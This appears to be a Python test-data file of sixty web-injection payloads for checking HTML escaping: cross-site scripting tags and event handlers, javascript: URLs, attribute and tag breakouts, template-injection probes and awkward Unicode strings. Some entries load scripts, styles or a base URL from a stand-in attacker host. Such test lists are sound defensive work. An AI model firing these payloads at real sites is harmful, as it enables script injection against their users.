"""Sixty prompts that would run as script, break out of their place, or change when handled carelessly."""

from __future__ import annotations

_RUN = "alert(1)"

ELEMENTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}//",
    f"<script>\n{_RUN}\n</script\n>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='x' onerror='{_RUN}' / >",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    f"<IMG SRC=javascript:{_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_RUN}'/>#x\">",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<style>@import 'javascript:{_RUN}';</style>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=//evil.example/>",
    f"<form action=javascript:{_RUN}><button>press</button></form>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
]
BREAKOUTS = [
    f"'\"><svg onload={_RUN}>",
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" x="',
    f"` onerror=`{_RUN}`",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</h1></span></li></ul></main><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"</style></template><img src=x onerror={_RUN}>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "';alert(1);//",
    "\\\";alert(1);//",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}} {% raw %} ${7*7} <%= 7 %> #{7} [[7]]",
    "{{ ''.__class__.__mro__ }}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]
TEXTS = [
    "&lt;b&gt; &amp; &#x3c;script&#x3e;",
    "line one\u2028line two\u2029\ttab",
    "\u202eright to left\u202c and \u200bzero width",
    "盆栽 🌳 \U0001f469\u200d\U0001f3a8 é e\u0301 \ufeff",
    "<" * 200 + ">" * 200,
    "<b>" + "x" * 4_000,
]
PAYLOADS = [*ELEMENTS, *BREAKOUTS, *TEMPLATES, *TEXTS]
assert len(PAYLOADS) == len({*PAYLOADS}) == 60
